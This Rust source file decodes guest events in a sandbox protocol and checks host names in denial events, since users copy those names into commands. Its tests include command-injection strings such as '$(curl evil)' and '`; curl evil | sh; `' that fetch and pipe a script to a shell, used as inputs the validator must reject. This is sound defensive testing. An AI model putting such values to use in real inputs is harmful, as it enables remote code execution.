//! Guest events, which a child sends while the guest runs.

use super::{Frame, Payload, ProtocolError, Reply};
use crate::sandbox::guest_event::GuestEvent;

/// The most bytes of an event. Each event of an honest child is shorter.
const MAX: usize = 256 * 1024;

pub(crate) fn encode(event: &GuestEvent<'_>) -> Vec<u8> {
    Frame::reply(Reply::Guest).data(event).seal()
}

pub(crate) fn decode(payload: Payload<'_>) -> Result<GuestEvent<'_>, ProtocolError> {
    // The parent keeps parts of events, so their length is bounded.
    if payload.rest().len() > MAX {
        return Err(ProtocolError("an event that is too long"));
    }
    let event = payload.data(ProtocolError("an invalid event"))?;
    // The parent shows the host in a hint, and users copy it into a command.
    if let GuestEvent::Denied(denial) = &event
        && !denial.names_a_host()
    {
        return Err(ProtocolError("a denial of an invalid host name"));
    }
    Ok(event)
}

#[cfg(test)]
mod tests {
    use std::borrow::Cow;

    use super::*;
    use crate::isolation::wire::HEADER;
    use crate::sandbox::guest_event::{Denial, GuestStream, LogLevel};

    #[test]
    fn a_guest_event_round_trips() {
        let address = "[::1]:80".parse().unwrap();
        for event in [
            GuestEvent::Output { stream: GuestStream::Stderr, line: "é" },
            GuestEvent::Log { level: LogLevel::Warn, message: "" },
            GuestEvent::Dropped { lines: 1, bytes: u64::MAX },
            GuestEvent::Denied(Cow::Owned(Denial::Sockets)),
            GuestEvent::Denied(Cow::Owned(Denial::Connection(address))),
        ] {
            assert_eq!(decode(Payload(&encode(&event)[HEADER..])), Ok(event));
        }
    }

    #[test]
    fn an_invalid_guest_event_is_rejected() {
        let sent = encode(&GuestEvent::Output { stream: GuestStream::Stdout, line: "line" });
        let long = encode(&GuestEvent::Log { level: LogLevel::Info, message: &"x".repeat(MAX) });
        for bad in [
            &b""[..],
            b"[[[[",
            b"\x00\x02\x01x",
            b"\x00\x01\xff\xff\xff\xff\x0fx",
            b"\x00\x01\x01\xff",
            &sent[HEADER..sent.len() - 1],
            &[&sent[HEADER..], b"x"].concat(),
            &long[HEADER..],
        ] {
            assert!(decode(Payload(bad)).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn a_denial_accepts_only_valid_host_names() {
        let long = "a".repeat(64);
        let much = "a.".repeat(200);
        #[rustfmt::skip]
        let cases = [
            ("example.com",            true),
            ("Example.COM.",           true),
            ("127.0.0.1",              true),
            ("[::1]",                  true),
            ("",                       false),
            ("`; curl evil | sh; `",   false),
            ("$(curl evil)",           false),
            ("a b",                    false),
            ("-x",                     false),
            ("a\nb",                   false),
            (&long,                    false),
            (&much,                    false),
        ];
        for (host, is_host) in cases {
            let denials = [
                Denial::Name(host.into()),
                Denial::Request { host: host.into(), port: 1 },
                Denial::Tls { host: host.into(), port: 1 },
            ];
            for denial in denials {
                let event = GuestEvent::Denied(Cow::Owned(denial));
                let sent = encode(&event);
                let found = decode(Payload(&sent[HEADER..]));
                assert_eq!(found.is_ok(), is_host, "{event:?}");
                assert!(found.is_err() || found == Ok(event));
            }
        }
    }
}
